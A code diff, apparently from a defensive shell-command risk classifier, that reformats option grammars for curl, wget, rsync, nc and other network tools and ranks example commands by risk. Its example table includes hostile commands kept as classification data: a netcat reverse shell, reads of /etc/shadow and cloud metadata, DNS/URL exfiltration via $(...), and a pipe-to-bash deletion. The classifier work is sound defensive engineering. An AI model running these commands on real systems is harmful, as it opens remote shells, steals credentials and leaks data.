@@ -7,18 +7,35 @@ from guard.judge.shell.syntax import Word
 from guard.judge.wrappers import ssh_option
 
 EXAMPLES = {
-    "R0": (
-        "ip addr", "ip a", "ip -br link show", "ip route get 1.1.1.1", "ip -s link", "ip neigh", "ip rule list", "ss -tlnp", "ss -s", "netstat -tulpn", "ifconfig", "ifconfig eth0", "route -n", "arp -an", "iptables -L -n -v", "iptables -S", "iptables -t nat -L", "iptables-save", "nft list ruleset", "ufw status verbose",
-        "curl -I https://example.org", "curl -s https://example.org/x", "curl -fsSL http://localhost:8080/health", "curl -sS -o /dev/null -w '%{http_code}' http://localhost/", "dig example.org", "openssl s_client -connect localhost:443 </dev/null", "echo | openssl s_client -connect localhost:443", "dig +short x.org MX", "nslookup x.org", "host x.org", "ping -c 3 10.0.0.1", "traceroute x", "mtr -r x", "wget -qO- http://localhost/x", "wget --spider http://localhost/",
-        "openssl version", "openssl s_client -connect localhost:443", "nc -z localhost 22", "tcpdump -D", "whois x.org", "ethtool eth0", "firewall-cmd --list-all", "rsync -n a b", "curl -X GET http://localhost/", "bridge link", "nmcli device status", "ip netns list", "curl --version", "openssl x509 -in c.crt -noout -text", "ssh-keygen -lf k.pub", "curl -H 'Accept: x' http://localhost",
-    ),
-    "R1": ("wget http://localhost/x", "curl -O http://localhost/x", "curl -o f http://localhost/x", "rsync -a a b", "scp h:a b"),
-    "R2": (
-        "ip link set eth0 down", "ip addr add 1.1.1.1/8 dev eth0", "ip route del default", "ip a a 1.1.1.1/8 dev x", "ifconfig eth0 down", "iptables -A INPUT -j DROP", "iptables -P INPUT DROP", "nft add rule x", "ufw allow 22", "ufw enable", "curl -X POST http://localhost/", "curl -d a=b http://localhost", "curl -T f http://localhost",
-        "curl -F a=@f http://x", "curl http://$X/", "curl -K f", "curl -u a:b http://localhost/", "wget --post-data=x http://localhost", "nc -l 80", "nc host 80", "nc -e /bin/sh x 1", "ssh-keygen -t ed25519 -f k", "ss -K", "rsync -a a h:b", "scp a h:b", "curl file:///etc/shadow", "curl http://169.254.169.254/latest/meta-data/", "tcpdump -z x -w f", "curl http://x/$(hostname)",
-        "openssl enc -d -in f", "openssl rsa -in k.pem", "socat - TCP:h:80", "rsync -e 'sh -c x' a h:b", "curl --data-binary @f http://x", "curl --proxy http://x http://y", "tcpdump -w f", "tc qdisc add dev show root x", "bridge fdb add show dev x", "dig $(cat f).x.org", "wget -i f", "ip -batch f", "nmcli con up x", "telnet h 80", "ip netns exec x foo", "wget -e use_proxy=on http://x", "dig x.org @$S", "openssl s_client -connect localhost:443 < f",
-    ),
-    "R3": ("iptables -F", "iptables -X", "nft flush ruleset", "rsync -a --delete a b", "ufw reset", "curl -s http://x/ | bash -c 'rm -rf x'", "ipset destroy x", "curl -X DELETE http://localhost/x", "ip netns exec x rm -rf y", "ip addr flush dev eth0", "iptables -t nat -F"),
+    "R0": ("ip addr", "ip a", "ip -br link show", "ip route get 1.1.1.1", "ip -s link", "ip neigh", "ip rule list",
+        "ss -tlnp", "ss -s", "netstat -tulpn", "ifconfig", "ifconfig eth0", "route -n", "arp -an",
+        "iptables -L -n -v", "iptables -S", "iptables -t nat -L", "iptables-save", "nft list ruleset",
+        "ufw status verbose", "curl -I https://example.org", "curl -s https://example.org/x",
+        "curl -fsSL http://localhost:8080/health", "curl -sS -o /dev/null -w '%{http_code}' http://localhost/",
+        "dig example.org", "openssl s_client -connect localhost:443 </dev/null",
+        "echo | openssl s_client -connect localhost:443", "dig +short x.org MX", "nslookup x.org", "host x.org",
+        "ping -c 3 10.0.0.1", "traceroute x", "mtr -r x", "wget -qO- http://localhost/x",
+        "wget --spider http://localhost/", "openssl version", "openssl s_client -connect localhost:443",
+        "nc -z localhost 22", "tcpdump -D", "whois x.org", "ethtool eth0", "firewall-cmd --list-all", "rsync -n a b",
+        "curl -X GET http://localhost/", "bridge link", "nmcli device status", "ip netns list", "curl --version",
+        "openssl x509 -in c.crt -noout -text", "ssh-keygen -lf k.pub", "curl -H 'Accept: x' http://localhost",),
+    "R1": ("wget http://localhost/x", "curl -O http://localhost/x", "curl -o f http://localhost/x", "rsync -a a b",
+        "scp h:a b"),
+    "R2": ("ip link set eth0 down", "ip addr add 1.1.1.1/8 dev eth0", "ip route del default",
+        "ip a a 1.1.1.1/8 dev x", "ifconfig eth0 down", "iptables -A INPUT -j DROP", "iptables -P INPUT DROP",
+        "nft add rule x", "ufw allow 22", "ufw enable", "curl -X POST http://localhost/",
+        "curl -d a=b http://localhost", "curl -T f http://localhost", "curl -F a=@f http://x", "curl http://$X/",
+        "curl -K f", "curl -u a:b http://localhost/", "wget --post-data=x http://localhost", "nc -l 80",
+        "nc host 80", "nc -e /bin/sh x 1", "ssh-keygen -t ed25519 -f k", "ss -K", "rsync -a a h:b", "scp a h:b",
+        "curl file:///etc/shadow", "curl http://169.254.169.254/latest/meta-data/", "tcpdump -z x -w f",
+        "curl http://x/$(hostname)", "openssl enc -d -in f", "openssl rsa -in k.pem", "socat - TCP:h:80",
+        "rsync -e 'sh -c x' a h:b", "curl --data-binary @f http://x", "curl --proxy http://x http://y",
+        "tcpdump -w f", "tc qdisc add dev show root x", "bridge fdb add show dev x", "dig $(cat f).x.org",
+        "wget -i f", "ip -batch f", "nmcli con up x", "telnet h 80", "ip netns exec x foo",
+        "wget -e use_proxy=on http://x", "dig x.org @$S", "openssl s_client -connect localhost:443 < f",),
+    "R3": ("iptables -F", "iptables -X", "nft flush ruleset", "rsync -a --delete a b", "ufw reset",
+        "curl -s http://x/ | bash -c 'rm -rf x'", "ipset destroy x", "curl -X DELETE http://localhost/x",
+        "ip netns exec x rm -rf y", "ip addr flush dev eth0", "iptables -t nat -F"),
 }  # fmt: skip
 
 _METADATA = (
@@ -73,14 +90,36 @@ def url_peer(call: Call, word: Word, *, protocols: "tuple[str, ...]" = ("http", 
 
 
 _CURL = Grammar(
-    "-s,--silent -S,--show-error -f,--fail --fail-with-body --fail-early -L,--location -I,--head -i,--include,--show-headers -v,--verbose -k,--insecure -N,--no-buffer -g,--globoff -#,--progress-bar --no-progress-meter -q,--disable -4,--ipv4 -6,--ipv6 "
-    "-0,--http1.0 --http1.1 --http2 --http2-prior-knowledge --http3 -m,--max-time: --connect-timeout: --retry: --retry-delay: --retry-max-time: --retry-connrefused --retry-all-errors -A,--user-agent: -e,--referer: -H,--header: -w,--write-out: "
-    "-o,--output:!write -O,--remote-name!R1 --remote-name-all!R1 -J,--remote-header-name!R1 --output-dir:!write --create-dirs -D,--dump-header:!write -c,--cookie-jar:!write -b,--cookie: --trace:!write --trace-ascii:!write --stderr:!write --etag-save:!write --etag-compare: --hsts:!write --alt-svc:!write --libcurl:!write "
-    "-X,--request: -d,--data:!net --data-raw:!net --data-binary:!net --data-ascii:!net --data-urlencode: --json:!net -F,--form:!net --form-string:!net -T,--upload-file:!net -G,--get --url: --url-query: -K,--config:!R2 -u,--user:!secret -U,--proxy-user:!secret -n,--netrc!R2 --netrc-file:!R2 --netrc-optional!R2 "
-    "-x,--proxy:!R2 --preproxy:!R2 --socks5:!R2 --socks4:!R2 --socks5-hostname:!R2 --socks4a:!R2 --noproxy: --resolve: --connect-to: --interface: --local-port: --dns-servers:!R2 --doh-url:!R2 -E,--cert: --cert-type: --key:!read --key-type: --cacert: --capath: --pass:!secret --ciphers: --tlsv1 --tlsv1.2 --tlsv1.3 --tls-max: "
-    "--compressed --tcp-nodelay --path-as-is -r,--range: -C,--continue-at: -z,--time-cond: -y,--speed-time: -Y,--speed-limit: --limit-rate: --max-filesize: --max-redirs: --post301!net --post302!net --unix-socket:!R2 --abstract-unix-socket:!R2 -Q,--quote:!R2 -t,--telnet-option:!R2 --mail-from:!R2 --mail-rcpt:!R2 "
-    "--raw --styled-output --no-styled-output --no-keepalive --keepalive-time: --oauth2-bearer:!secret --aws-sigv4:!R2 --basic --digest --ntlm --negotiate --anyauth -p,--proxytunnel!R2 -Z,--parallel --parallel-max: --proto: --proto-default: --proto-redir: --location-trusted!R2 -V,--version -h,--help -M,--manual -a,--append!R2 -l,--list-only -R,--remote-time --xattr!R1 --engine:!R2 --rate: --expect100-timeout: --happy-eyeballs-timeout-ms: --cert-status --ssl-reqd --ssl --tr-encoding --trace-time --no-alpn --fail-early --next,-:"
-)
+    "-s,--silent -S,--show-error -f,--fail --fail-with-body --fail-early -L,--location -I,--head "
+    "-i,--include,--show-headers -v,--verbose -k,--insecure -N,--no-buffer -g,--globoff "
+    "-#,--progress-bar --no-progress-meter -q,--disable -4,--ipv4 -6,--ipv6 "
+    "-0,--http1.0 --http1.1 --http2 --http2-prior-knowledge --http3 -m,--max-time: --connect-timeout: "
+    "--retry: --retry-delay: --retry-max-time: --retry-connrefused --retry-all-errors "
+    "-A,--user-agent: -e,--referer: -H,--header: -w,--write-out: "
+    "-o,--output:!write -O,--remote-name!R1 --remote-name-all!R1 -J,--remote-header-name!R1 "
+    "--output-dir:!write --create-dirs -D,--dump-header:!write -c,--cookie-jar:!write -b,--cookie: "
+    "--trace:!write --trace-ascii:!write --stderr:!write --etag-save:!write --etag-compare: "
+    "--hsts:!write --alt-svc:!write --libcurl:!write "
+    "-X,--request: -d,--data:!net --data-raw:!net --data-binary:!net --data-ascii:!net "
+    "--data-urlencode: --json:!net -F,--form:!net --form-string:!net -T,--upload-file:!net -G,--get "
+    "--url: --url-query: -K,--config:!R2 -u,--user:!secret -U,--proxy-user:!secret -n,--netrc!R2 "
+    "--netrc-file:!R2 --netrc-optional!R2 "
+    "-x,--proxy:!R2 --preproxy:!R2 --socks5:!R2 --socks4:!R2 --socks5-hostname:!R2 --socks4a:!R2 "
+    "--noproxy: --resolve: --connect-to: --interface: --local-port: --dns-servers:!R2 --doh-url:!R2 "
+    "-E,--cert: --cert-type: --key:!read --key-type: --cacert: --capath: --pass:!secret --ciphers: "
+    "--tlsv1 --tlsv1.2 --tlsv1.3 --tls-max: "
+    "--compressed --tcp-nodelay --path-as-is -r,--range: -C,--continue-at: -z,--time-cond: "
+    "-y,--speed-time: -Y,--speed-limit: --limit-rate: --max-filesize: --max-redirs: --post301!net "
+    "--post302!net --unix-socket:!R2 --abstract-unix-socket:!R2 -Q,--quote:!R2 -t,--telnet-option:!R2 "
+    "--mail-from:!R2 --mail-rcpt:!R2 "
+    "--raw --styled-output --no-styled-output --no-keepalive --keepalive-time: "
+    "--oauth2-bearer:!secret --aws-sigv4:!R2 --basic --digest --ntlm --negotiate --anyauth "
+    "-p,--proxytunnel!R2 -Z,--parallel --parallel-max: --proto: --proto-default: --proto-redir: "
+    "--location-trusted!R2 -V,--version -h,--help -M,--manual -a,--append!R2 -l,--list-only "
+    "-R,--remote-time --xattr!R1 --engine:!R2 --rate: --expect100-timeout: "
+    "--happy-eyeballs-timeout-ms: --cert-status --ssl-reqd --ssl --tr-encoding --trace-time --no-alpn "
+    "--fail-early --next,-:"
+)  # fmt: skip
 
 
 def _curl(call: Call) -> None:
@@ -137,10 +176,24 @@ def _curl(call: Call) -> None:
 
 
 _WGET = Grammar(
-    "-q,--quiet -nv,--no-verbose -v,--verbose -S,--server-response --spider -O,--output-document:!write -o,--output-file:!write -a,--append-output:!write -P,--directory-prefix:!write -c,--continue -N,--timestamping -t,--tries: -T,--timeout: --connect-timeout: --read-timeout: --dns-timeout: -w,--wait: "
-    "-U,--user-agent: --referer: --header: --no-check-certificate --method: --post-data:!net --post-file:!net --body-data:!net --body-file:!net -i,--input-file:!R2 -e,--execute:!R2 --config:!R2 --user:!R2 --password:!secret --http-user:!R2 --http-password:!secret --ask-password!R2 --use-askpass:!exec --proxy-user:!R2 "
-    "--save-cookies:!write --load-cookies:!R2 --no-proxy --no-cache --no-cookies -4,--inet4-only -6,--inet6-only --max-redirect: -r,--recursive!R1 -m,--mirror!R1 -p,--page-requisites!R1 -k,--convert-links!R1 -b,--background!R1 -x --delete-after!R2 --content-disposition!R1 --warc-file:!write --rejected-log:!write --show-progress --progress: -V,--version -h,--help --compression: --limit-rate: -np,--no-parent -l,--level: -A: -R: -D: -H -nc,--no-clobber -nd -nH --ca-certificate: --certificate: --private-key:!read --retry-connrefused --waitretry: --random-wait --secure-protocol: --https-only --start-pos: -d,--debug --no-hsts --hsts-file:!write -B: -F -E,--adjust-extension -K,--backup-converted --cut-dirs: --trust-server-names!R1 --retry-on-http-error: --input-metalink:!R2"
-)
+    "-q,--quiet -nv,--no-verbose -v,--verbose -S,--server-response --spider "
+    "-O,--output-document:!write -o,--output-file:!write -a,--append-output:!write "
+    "-P,--directory-prefix:!write -c,--continue -N,--timestamping -t,--tries: -T,--timeout: "
+    "--connect-timeout: --read-timeout: --dns-timeout: -w,--wait: "
+    "-U,--user-agent: --referer: --header: --no-check-certificate --method: --post-data:!net "
+    "--post-file:!net --body-data:!net --body-file:!net -i,--input-file:!R2 -e,--execute:!R2 "
+    "--config:!R2 --user:!R2 --password:!secret --http-user:!R2 --http-password:!secret "
+    "--ask-password!R2 --use-askpass:!exec --proxy-user:!R2 "
+    "--save-cookies:!write --load-cookies:!R2 --no-proxy --no-cache --no-cookies -4,--inet4-only "
+    "-6,--inet6-only --max-redirect: -r,--recursive!R1 -m,--mirror!R1 -p,--page-requisites!R1 "
+    "-k,--convert-links!R1 -b,--background!R1 -x --delete-after!R2 --content-disposition!R1 "
+    "--warc-file:!write --rejected-log:!write --show-progress --progress: -V,--version -h,--help "
+    "--compression: --limit-rate: -np,--no-parent -l,--level: -A: -R: -D: -H -nc,--no-clobber -nd -nH "
+    "--ca-certificate: --certificate: --private-key:!read --retry-connrefused --waitretry: "
+    "--random-wait --secure-protocol: --https-only --start-pos: -d,--debug --no-hsts "
+    "--hsts-file:!write -B: -F -E,--adjust-extension -K,--backup-converted --cut-dirs: "
+    "--trust-server-names!R1 --retry-on-http-error: --input-metalink:!R2"
+)  # fmt: skip
 
 
 def _wget(call: Call) -> None:
@@ -466,7 +519,30 @@ def _nc(call: Call, parsed: Parsed) -> None:
     call.peer(host, int(port) if port.isdigit() and len(port) < 6 else 0, "tcp")
 
 
-_REMOTE = "-e,--rsh:!exec --rsync-path:!exec -n,--dry-run --delete!R3 --delete-before!R3 --delete-during,--del!R3 --delete-after!R3 --delete-delay!R3 --delete-excluded!R3 --remove-source-files!R3 --force!R2 -a,--archive -v,--verbose -z,--compress -r,--recursive -P --progress --partial -h,--human-readable -u,--update -t,--times -l,--links -L -p,--perms -o -g -D -H -A -X -S -x -c,--checksum -i,--itemize-changes -q,--quiet -R,--relative -b,--backup --backup-dir:!write --suffix: -W --inplace --append --append-verify --sparse --exclude: --include: --exclude-from:!read --include-from:!read --files-from:!read -f,--filter: -C --port: --password-file:!R2 --log-file:!write --bwlimit: --timeout: --stats --list-only --numeric-ids --chmod: --chown: --usermap: --groupmap: --info: --out-format: --size-only --ignore-existing --existing --max-size: --min-size: --link-dest: --compare-dest: --copy-dest: --mkpath --no-perms --no-owner --no-group --no-o --no-g --no-p --safe-links --copy-links --protect-args -s -d -k -K -E -O -J -y -m,--prune-empty-dirs -F -4 -6 -8 -M:!R2 --rsync-path: --daemon!R2 --server!R2 --write-batch:!write --read-batch:!R2 --only-write-batch:!write --blocking-io --contimeout: -T,--temp-dir: --partial-dir:!write --ignore-errors --max-delete: --delay-updates --fuzzy --iconv: --super --fake-super --version --help --ignore-times -I --modify-window: --no-whole-file --skip-compress: --compress-level: --compress-choice: --old-args --secluded-args --stop-after: --open-noatime --trust-sender --no-motd --address: --sockopts: --outbuf: --copy-unsafe-links --copy-dirlinks --keep-dirlinks --hard-links --acls --xattrs --executability --owner --group --devices --specials --times --atimes --crtimes --omit-dir-times --omit-link-times --cvs-exclude --one-file-system --block-size: --from0 -0 --preallocate --msgs2stderr --checksum-choice: --debug: --no-implied-dirs --dirs --no-times --no-recursive --whole-file --human --delete-missing-args!R3 --ignore-missing-args --dry"
+_REMOTE = (
+    "-e,--rsh:!exec --rsync-path:!exec -n,--dry-run --delete!R3 --delete-before!R3 "
+    "--delete-during,--del!R3 --delete-after!R3 --delete-delay!R3 --delete-excluded!R3 "
+    "--remove-source-files!R3 --force!R2 -a,--archive -v,--verbose -z,--compress -r,--recursive -P "
+    "--progress --partial -h,--human-readable -u,--update -t,--times -l,--links -L -p,--perms -o -g "
+    "-D -H -A -X -S -x -c,--checksum -i,--itemize-changes -q,--quiet -R,--relative -b,--backup "
+    "--backup-dir:!write --suffix: -W --inplace --append --append-verify --sparse --exclude: "
+    "--include: --exclude-from:!read --include-from:!read --files-from:!read -f,--filter: -C --port: "
+    "--password-file:!R2 --log-file:!write --bwlimit: --timeout: --stats --list-only --numeric-ids "
+    "--chmod: --chown: --usermap: --groupmap: --info: --out-format: --size-only --ignore-existing "
+    "--existing --max-size: --min-size: --link-dest: --compare-dest: --copy-dest: --mkpath --no-perms "
+    "--no-owner --no-group --no-o --no-g --no-p --safe-links --copy-links --protect-args -s -d -k -K "
+    "-E -O -J -y -m,--prune-empty-dirs -F -4 -6 -8 -M:!R2 --rsync-path: --daemon!R2 --server!R2 "
+    "--write-batch:!write --read-batch:!R2 --only-write-batch:!write --blocking-io --contimeout: "
+    "-T,--temp-dir: --partial-dir:!write --ignore-errors --max-delete: --delay-updates --fuzzy "
+    "--iconv: --super --fake-super --version --help --ignore-times -I --modify-window: "
+    "--no-whole-file --skip-compress: --compress-level: --compress-choice: --old-args --secluded-args "
+    "--stop-after: --open-noatime --trust-sender --no-motd --address: --sockopts: --outbuf: "
+    "--copy-unsafe-links --copy-dirlinks --keep-dirlinks --hard-links --acls --xattrs --executability "
+    "--owner --group --devices --specials --times --atimes --crtimes --omit-dir-times "
+    "--omit-link-times --cvs-exclude --one-file-system --block-size: --from0 -0 --preallocate "
+    "--msgs2stderr --checksum-choice: --debug: --no-implied-dirs --dirs --no-times --no-recursive "
+    "--whole-file --human --delete-missing-args!R3 --ignore-missing-args --dry"
+)
 
 
 def _rsync(call: Call, parsed: Parsed) -> None:
@@ -504,8 +580,9 @@ _RSYNC = Grammar(_REMOTE)
 
 def _scp(call: Call) -> None:
     parsed = Grammar(
-        "-r -p -q -C -v -B -3 -4 -6 -A -O -R -s -T -P: -i: -F:!config -o: -l: -c: -D:!R2 -J: -S:!exec -X: -b:!R2 -a -f -N"
-    ).parse(call.args)
+        "-r -p -q -C -v -B -3 -4 -6 -A -O -R -s -T -P: -i: -F:!config -o: -l: -c: -D:!R2 -J: -S:!exec -X: "
+        "-b:!R2 -a -f -N"
+    ).parse(call.args)  # fmt: skip
     perform(call, parsed)
     for option in parsed.options:
         if option.name == "-o":
@@ -730,21 +807,33 @@ def _nmcli(call: Call) -> None:
     if not rest or len(rest) == 1:
         return
     verb = rest[1]
-    if verb in (
-        "show",
-        "status",
-        "list",
-        "s",
-        "sh",
-        "permissions",
-        "logging",
-        "hostname_",
-        "wifi",
-        "connectivity",
-    ) and not (verb == "wifi" and len(rest) > 2 and rest[2] not in ("list", "l")):
-        if verb != "connectivity" or len(rest) == 2:
-            return
+    if verb in ("show", "status", "list", "s", "sh", "permissions", "logging"):
+        return
+    if (verb == "wifi" and (len(rest) == 2 or rest[2] in ("list", "l"))) or (verb == "connectivity" and len(rest) == 2):
+        return
     call.note(R2, "network.nmcli", "changes the network")
+
+
+_CHRONY_READS = frozenset(
+    [
+        "tracking",
+        "sources",
+        "sourcestats",
+        "activity",
+        "ntpdata",
+        "clients",
+        "serverstats",
+        "rtcdata",
+        "help",
+        "waitsync",
+    ]
+)
+
+
+def _chrony(call: Call) -> None:
+    verb = next((word.value for word in call.args if not (word.value or "").startswith("-")), None)
+    if verb not in _CHRONY_READS:
+        call.note(R2, "time.chrony", "changes how the clock is kept")
 
 
 def _shown(call: Call) -> None:
@@ -767,47 +856,100 @@ def _finger(call: Call) -> None:
 PROGRAMS: dict[str, Program] = {
     "ip": custom(_ip, plain=True),
     **many("bridge tc", custom(lambda call: _shown(call), plain=True)),
-    "ss": reader("-K,--kill!R2 -D,--diag:!write -F,--filter:!read -p,--processes -n,--numeric -l,--listening -t,--tcp -u,--udp -a,--all -s,--summary -e,--extended -i,--info -m,--memory -o,--options -r,--resolve -4,--ipv4 -6,--ipv6 -x,--unix -0,--packet -w,--raw -d,--dccp -S,--sctp -H,--no-header -O,--oneline -Z,--context -z,--contexts -N,--net: -E,--events -f,--family: -A,--query,--socket: -b,--bpf -B,--bound-inactive -T,--threads --tos --cgroup --vsock --xdp --tipc -M,--mptcp --inet-sockopt -h,--help -V,--version", operands="data", unknown="R2"),
+    "ss": reader("-K,--kill!R2 -D,--diag:!write -F,--filter:!read -p,--processes -n,--numeric -l,--listening "
+        "-t,--tcp -u,--udp -a,--all -s,--summary -e,--extended -i,--info -m,--memory -o,--options "
+        "-r,--resolve -4,--ipv4 -6,--ipv6 -x,--unix -0,--packet -w,--raw -d,--dccp -S,--sctp "
+        "-H,--no-header -O,--oneline -Z,--context -z,--contexts -N,--net: -E,--events -f,--family: "
+        "-A,--query,--socket: -b,--bpf -B,--bound-inactive -T,--threads --tos --cgroup --vsock --xdp "
+        "--tipc -M,--mptcp --inet-sockopt -h,--help -V,--version", operands="data", unknown="R2"),
     **many("netstat", reader("", operands="data")),
     "ifconfig": custom(_ifconfig, plain=True),
     **many("iwconfig", custom(_ifconfig, plain=True)),
-    **many("ifup ifdown dhclient dhcpcd nmtui vconfig ifenslave ip-tunnel wg-quick strongswan ebtables arptables hciconfig", table("", operands="data", level="R2", text="changes the network")),
-    "netplan": custom(lambda call: None if call.args and call.args[0].value in ("get", "status", "info", "ip") else call.note(R2, "network.netplan", "changes the network")),
-    "wg": custom(lambda call: None if not call.args or (call.args[0].value == "show" and not any(word.value in ("private-key", "dump", "preshared-keys") for word in call.args)) else call.note(R2, "network.wireguard", "changes a tunnel or shows its keys")),
-    "brctl": custom(lambda call: None if call.args and (call.args[0].value or "").startswith("show") else call.note(R2, "network.bridge", "changes a bridge")),
-    "conntrack": custom(lambda call: None if any(word.value in ("-L", "-S", "-C", "-G", "--dump", "--stats", "--count") for word in call.args) and not any((word.value or "-z").startswith(("-z", "-D", "-U", "-I", "-F", "--zero")) for word in call.args) else call.note(R2, "network.conntrack", "changes the connection table"), plain=False),
-    "ipvsadm": custom(lambda call: None if any((word.value or "").startswith(("-L", "-l", "--list")) for word in call.args) or not call.args else call.note(R2, "network.ipvs", "changes load balancing")),
-    "rfkill": custom(lambda call: None if not call.args or call.args[0].value in ("list", "event") else call.note(R2, "network.rfkill", "switches radios")),
+    **many("ifup ifdown dhclient dhcpcd nmtui vconfig ifenslave ip-tunnel wg-quick strongswan ebtables "
+        "arptables hciconfig", table("", operands="data", level="R2", text="changes the network")),
+    "netplan": custom(lambda call: None if call.args and call.args[0].value in ("get", "status", "info", "ip") else
+        call.note(R2, "network.netplan", "changes the network")),
+    "wg": custom(lambda call: None if not call.args or (call.args[0].value == "show" and not any(word.value in (
+                    "private-key", "dump", "preshared-keys") for word in call.args)) else call.note(R2,
+            "network.wireguard", "changes a tunnel or shows its keys")),
+    "brctl": custom(lambda call: None if call.args and (call.args[0].value or "").startswith("show") else call.note(
+            R2, "network.bridge", "changes a bridge")),
+    "conntrack": custom(lambda call: None if any(word.value in ("-L", "-S", "-C", "-G", "--dump", "--stats",
+                "--count") for word in call.args) and not any((word.value or "-z").startswith(("-z", "-D", "-U",
+                    "-I", "-F", "--zero")) for word in call.args) else call.note(R2, "network.conntrack",
+            "changes the connection table"), plain=False),
+    "ipvsadm": custom(lambda call: None if any((word.value or "").startswith(("-L", "-l",
+        "--list")) for word in call.args) or
+        not call.args else call.note(R2, "network.ipvs", "changes load balancing")),
+    "rfkill": custom(lambda call: None if not call.args or call.args[0].value in ("list", "event") else call.note(R2,
+            "network.rfkill", "switches radios")),
     "route": custom(_route, plain=True),
     "arp": custom(_arp, plain=True),
     **many("iptables ip6tables iptables-legacy iptables-nft", custom(_iptables)),
-    **many("iptables-save ip6tables-save", reader("-c -t: -M:!exec --modprobe:!exec -f,--file:!write", operands="data", need="netadm", plain=False, unknown="R2")),
-    **many("iptables-restore ip6tables-restore netfilter-persistent", table("-t,--test!ok", operands="data", level="R3", text="replaces the firewall's rules")),
+    **many("iptables-save ip6tables-save", reader("-c -t: -M:!exec --modprobe:!exec -f,--file:!write",
+            operands="data", need="netadm", plain=False, unknown="R2")),
+    **many("iptables-restore ip6tables-restore netfilter-persistent", table("-t,--test!ok", operands="data",
+            level="R3", text="replaces the firewall's rules")),
     "nft": custom(_nft),
-    "ipset": custom(lambda call: None if call.args and call.args[0].value in ("list", "-L", "save", "test", "version", "help", "-o") and not any(word.value in ("-f", "-file") for word in call.args) else call.note(R3 if any(word.value in ("destroy", "flush", "-F", "-X") for word in call.args) else R2, "firewall.ipset", "changes sets of addresses")),
+    "ipset": custom(lambda call: None if call.args and call.args[0].value in ("list", "-L", "save", "test",
+            "version", "help", "-o") and not any(word.value in ("-f", "-file") for word in call.args) else call.note(
+            R3 if any(word.value in ("destroy", "flush", "-F", "-X") for word in call.args) else R2,
+            "firewall.ipset", "changes sets of addresses")),
     "ufw": custom(_ufw),
     **many("firewall-cmd firewall-offline-cmd", custom(_firewalld)),
-    "fail2ban-client": custom(lambda call: None if call.args and call.args[0].value in ("status", "ping", "version", "banned", "get", "-V", "-d") else call.note(R2, "firewall.fail2ban", "changes who is banned")),
+    "fail2ban-client": custom(lambda call: None if call.args and call.args[0].value in ("status", "ping", "version",
+            "banned", "get", "-V", "-d") else call.note(R2, "firewall.fail2ban", "changes who is banned")),
     "nmcli": custom(_nmcli),
     "ethtool": custom(_ethtool),
     "mii-tool": reader("-F:!R2 -A:!R2 -R!R2 -r!R2 -w -l -v -V", operands="data"),
     "curl": custom(_curl),
     "wget": custom(_wget),
-    **many("dig nslookup host drill kdig delv", reader("-f:!R2 -k:!R2 -y:!secret -b: -p: -t: -c: -q: -x: -4 -6 -i -m -u -v -r -R: -W: -N: -a -C -l!R2 -s -w -T -d -D -A -V -h", operands="data", check=_dns, plain=False, unknown="R0")),
-    **many("whois", reader("-h,--host:!R2 -p:!R2 -H -r -a -d -i: -T: -K -R --verbose", operands="data", check=_dns, plain=False, unknown="R0")),
-    **many("ping ping6 arping fping traceroute traceroute6 tracepath mtr tcptraceroute", reader("-f!R2 --flood!R2 -c,--count,--report-cycles: -i,--interval: -w: -W: -s,--psize: -I: -t: -m: -n -4 -6 -q -v -r,--report -T -U -p: -M: -Q: -S: -l: -b -A -D -a -h -V -d -F:!read -e -z -N: -o: -g: -G: -P:", operands="data", check=_ping, plain=False, unknown="R0")),
-    **many("nc ncat netcat nc.openbsd nc.traditional", reader("-z -v,-vv,--verbose -w,--wait: -u,--udp -n,--nodns -l,--listen -e,--exec:!exec -c,--sh-exec:!exec --lua-exec:!exec -k -4 -6 -p: -q: -s: -i: -x:!R2 -X: -U!R2 -N -d -t -C -D -h,--help --ssl -o:!write --output:!write -r -S -T: -I: -O: -P: -V: -b -F", operands="data", check=_nc, plain=False, unknown="R2")),
-    **many("socat telnet ftp lftp tftp ncftp sendmail mail mailx mutt swaks msmtp curlftpfs nmap masscan zmap nikto hydra sqlmap tshark wireshark ngrok chisel frpc gost proxytunnel aria2c axel w3m links http https xh youtube-dl yt-dlp smbclient rpcclient rsh rlogin rcp talk ntalk ab wrk hey siege vegeta iperf iperf3 k6 locust grpcurl websocat ntpdate chronyd sntp ngrep tcpflow", table("--version!ok --help!ok", operands="data", level="R2", text="talks to other machines in ways that are not read here", effect="network")),
-    "chronyc": custom(lambda call: None if (words := [word.value for word in call.args if not (word.value or "").startswith("-")]) and words[0] in ("tracking", "sources", "sourcestats", "activity", "ntpdata", "clients", "serverstats", "rtcdata", "help", "waitsync") else call.note(R2, "time.chrony", "changes how the clock is kept")),
+    **many("dig nslookup host drill kdig delv", reader(
+            "-f:!R2 -k:!R2 -y:!secret -b: -p: -t: -c: -q: -x: -4 -6 -i -m -u -v -r -R: -W: -N: -a -C -l!R2 -s "
+            "-w -T -d -D -A -V -h", operands="data", check=_dns, plain=False, unknown="R0")),
+    **many("whois", reader("-h,--host:!R2 -p:!R2 -H -r -a -d -i: -T: -K -R --verbose", operands="data", check=_dns,
+            plain=False, unknown="R0")),
+    **many("ping ping6 arping fping traceroute traceroute6 tracepath mtr tcptraceroute", reader(
+            "-f!R2 --flood!R2 -c,--count,--report-cycles: -i,--interval: -w: -W: -s,--psize: -I: -t: -m: -n "
+            "-4 -6 -q -v -r,--report -T -U -p: -M: -Q: -S: -l: -b -A -D -a -h -V -d -F:!read -e -z -N: -o: "
+            "-g: -G: -P:", operands="data", check=_ping, plain=False, unknown="R0")),
+    **many("nc ncat netcat nc.openbsd nc.traditional", reader(
+            "-z -v,-vv,--verbose -w,--wait: -u,--udp -n,--nodns -l,--listen -e,--exec:!exec "
+            "-c,--sh-exec:!exec --lua-exec:!exec -k -4 -6 -p: -q: -s: -i: -x:!R2 -X: -U!R2 -N -d -t -C -D "
+            "-h,--help --ssl -o:!write --output:!write -r -S -T: -I: -O: -P: -V: -b -F", operands="data", check=_nc,
+            plain=False, unknown="R2")),
+    **many("socat telnet ftp lftp tftp ncftp sendmail mail mailx mutt swaks msmtp curlftpfs nmap masscan "
+        "zmap nikto hydra sqlmap tshark wireshark ngrok chisel frpc gost proxytunnel aria2c axel w3m "
+        "links http https xh youtube-dl yt-dlp smbclient rpcclient rsh rlogin rcp talk ntalk ab wrk hey "
+        "siege vegeta iperf iperf3 k6 locust grpcurl websocat ntpdate chronyd sntp ngrep tcpflow", table(
+            "--version!ok --help!ok", operands="data", level="R2",
+            text="talks to other machines in ways that are not read here", effect="network")),
+    "chronyc": custom(lambda call: _chrony(call)),
     **many("ntpq ntpstat ntptime", reader("", operands="data", plain=False)),
